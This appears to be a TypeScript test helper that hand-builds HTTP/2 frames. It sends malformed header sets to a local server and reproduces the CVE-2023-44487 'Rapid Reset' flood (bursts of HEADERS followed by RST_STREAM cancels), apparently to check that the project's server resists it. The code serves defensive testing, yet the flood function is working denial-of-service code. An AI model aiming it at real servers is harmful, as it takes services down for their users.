// A minimal raw HTTP/2 client (RFC 9113 frames, HPACK literals without Huffman) for requests that
// node:http2's own client refuses to send: repeated pseudo-headers, connection-specific fields,
// unknown pseudo-headers. It reports how the server ended stream 1: RST_STREAM (with its code), or
// a response whose :status is one of HPACK's static-table statuses (400 is index 12).
import { connect } from 'node:tls';
import { type IssuedSvid } from '../../src/index.js';

export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

/** One HTTP/2 frame (RFC 9113 §4.1). */
export function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
}

/** HPACK "literal header field without indexing — new name", lengths < 127, no Huffman. */
function literal(name: string, value: string): Buffer {
  const n = Buffer.from(name);
  const v = Buffer.from(value);
  return Buffer.concat([Buffer.from([0x00, n.length]), n, Buffer.from([v.length]), v]);
}

const STATIC_STATUS: Record<number, number> = { 0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500 };

export type RawOutcome = { kind: 'reset'; code: number } | { kind: 'response'; status: number | 'other' } | { kind: 'goaway'; code: number } | { kind: 'closed' };

/** Sends one HEADERS frame (END_STREAM) with `fields` in order on stream 1. */
export function rawH2Request(port: number, client: IssuedSvid, fields: Array<[string, string]>): Promise<RawOutcome> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port, cert: client.certChainPem, key: client.keyPem, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
    let buf = Buffer.alloc(0);
    const done = (o: RawOutcome) => {
      resolve(o);
      socket.destroy();
    };
    socket.setTimeout(3000, () => done({ kind: 'closed' }));
    socket.on('error', () => done({ kind: 'closed' }));
    socket.on('close', () => done({ kind: 'closed' }));
    socket.on('secureConnect', () => {
      const block = Buffer.concat(fields.map(([n, v]) => literal(n, v)));
      socket.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0)), frame(1, 0x5, 1, block)]));
    });
    socket.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const type = buf[3]!;
        const flags = buf[4]!;
        const stream = buf.readUInt32BE(5) & 0x7fffffff;
        const payload = buf.subarray(9, 9 + len);
        buf = buf.subarray(9 + len);
        if (type === 4 && (flags & 1) === 0) socket.write(frame(4, 1, 0, Buffer.alloc(0))); // ACK their SETTINGS
        if (stream === 1 && type === 3) return done({ kind: 'reset', code: payload.readUInt32BE(0) });
        if (stream === 1 && type === 1) return done({ kind: 'response', status: STATIC_STATUS[payload[0]!] ?? 'other' });
        if (type === 7) return done({ kind: 'goaway', code: payload.readUInt32BE(4) });
      }
    });
  });
}

/**
 * CVE-2023-44487's pattern on one connection: HEADERS then RST_STREAM(CANCEL) for stream after
 * stream, `n` of them, 50 per write. Resolves with the GOAWAY code the server sent (or undefined
 * if the connection closed without one) and how many streams were written before it came.
 */
export function rawRapidReset(port: number, client: IssuedSvid, n: number): Promise<{ goaway: number | undefined; written: number }> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port, cert: client.certChainPem, key: client.keyPem, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
    let buf = Buffer.alloc(0);
    let written = 0;
    let goaway: number | undefined;
    const done = () => {
      resolve({ goaway, written });
      socket.destroy();
    };
    socket.setTimeout(5000, done);
    socket.on('error', done);
    socket.on('close', done);
    const block = Buffer.concat([literal(':method', 'GET'), literal(':scheme', 'https'), literal(':path', '/x'), literal(':authority', 'payments')]);
    const cancel = Buffer.alloc(4);
    cancel.writeUInt32BE(8); // CANCEL
    const burst = () => {
      if (goaway !== undefined || socket.destroyed || written >= n) return;
      const frames: Buffer[] = [];
      for (let i = 0; i < 50 && written < n; i++, written++) {
        const id = 2 * written + 1;
        frames.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
      }
      socket.write(Buffer.concat(frames));
      setImmediate(burst);
    };
    socket.on('secureConnect', () => {
      socket.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]));
      burst();
    });
    socket.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const type = buf[3]!;
        const flags = buf[4]!;
        const payload = buf.subarray(9, 9 + len);
        buf = buf.subarray(9 + len);
        if (type === 4 && (flags & 1) === 0) socket.write(frame(4, 1, 0, Buffer.alloc(0)));
        if (type === 7) {
          goaway = payload.readUInt32BE(4);
          return done();
        }
      }
    });
  });
}
